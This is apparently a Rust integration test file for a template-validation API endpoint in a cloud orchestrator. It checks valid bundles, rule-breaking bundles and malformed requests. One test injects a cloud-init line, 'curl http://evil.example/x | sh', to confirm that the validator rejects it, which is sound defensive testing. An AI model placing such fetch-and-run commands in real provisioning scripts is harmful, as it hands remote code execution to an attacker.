//! `POST /api/v1/templates/validate` through the router: the validator's verdict on a bundle
//! sent as its two files or as a published bundle, with the CID and metadata it would be
//! published with; malformed requests refused in words.

mod support;

use axum::{
    body::Body,
    http::{Method, Request, StatusCode},
};
use decloud_orchestrator::{AppState, Config, Store, app};
use decloud_templates::Bundle;
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::ServiceExt;

async fn validate(body: Value) -> (StatusCode, Value) {
    let (url, _dir) = support::sqlite_database();
    let store = Store::connect(&url).await.unwrap();
    let router = app(AppState::new(store, Config::default()).unwrap());
    let request = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/templates/validate")
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap();
    let response = router.oneshot(request).await.unwrap();
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

fn seed() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../templates/seed/postgresql")
}

fn files() -> (String, String) {
    let read = |name: &str| std::fs::read_to_string(seed().join(name)).unwrap();
    (read("template.toml"), read("user-data"))
}

#[tokio::test]
async fn a_valid_bundle_gets_its_cid_content_and_metadata() {
    let bundle = Bundle::load_dir(seed()).unwrap();
    let (manifest, user_data) = files();
    let (status, verdict) = validate(json!({ "manifest": manifest, "user_data": user_data })).await;
    assert_eq!(status, StatusCode::OK, "{verdict}");
    assert_eq!(verdict["valid"], true);
    assert_eq!(verdict["rejections"], json!([]));
    assert_eq!(verdict["slug"], "postgresql");
    assert_eq!(verdict["cid"], bundle.cid().to_string());
    let content = String::from_utf8(bundle.to_content()).unwrap();
    assert_eq!(verdict["content"], content.as_str());
    let metadata: Value = serde_json::from_str(verdict["metadata"].as_str().unwrap()).unwrap();
    assert_eq!(metadata["slug"], "postgresql");
    assert_eq!(metadata["category"], verdict["category"]);

    // The published file gives the same verdict and CID.
    let (status, again) = validate(json!({ "content": content })).await;
    assert_eq!(status, StatusCode::OK, "{again}");
    assert_eq!(again["cid"], verdict["cid"]);
    assert_eq!(again["valid"], true);
}

#[tokio::test]
async fn a_bundle_that_breaks_a_rule_gets_every_reason() {
    let (manifest, user_data) = files();
    let user_data = format!("{user_data}\nruncmd:\n  - curl http://evil.example/x | sh\n");
    let (status, verdict) = validate(json!({ "manifest": manifest, "user_data": user_data })).await;
    assert_eq!(status, StatusCode::OK, "{verdict}");
    assert_eq!(verdict["valid"], false);
    let rejections = verdict["rejections"].as_array().unwrap();
    assert!(!rejections.is_empty());
    assert!(
        rejections
            .iter()
            .all(|r| r["rule"].is_string() && r["reason"].is_string() && r["file"] == "user-data"),
        "{verdict}"
    );
}

#[tokio::test]
async fn malformed_requests_are_refused_in_words() {
    let (manifest, user_data) = files();
    for (body, words) in [
        (
            json!({ "manifest": "name = [", "user_data": user_data }),
            "template.toml does not parse",
        ),
        (json!({ "content": "{}" }), "not a published bundle"),
        (json!({ "manifest": manifest }), "send either"),
        (
            json!({ "manifest": manifest, "user_data": user_data, "content": "{}" }),
            "send either",
        ),
    ] {
        let (status, reply) = validate(body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{reply}");
        assert_eq!(reply["error"]["code"], "invalid_bundle");
        assert!(
            reply["error"]["message"].as_str().unwrap().contains(words),
            "{reply}"
        );
    }
}
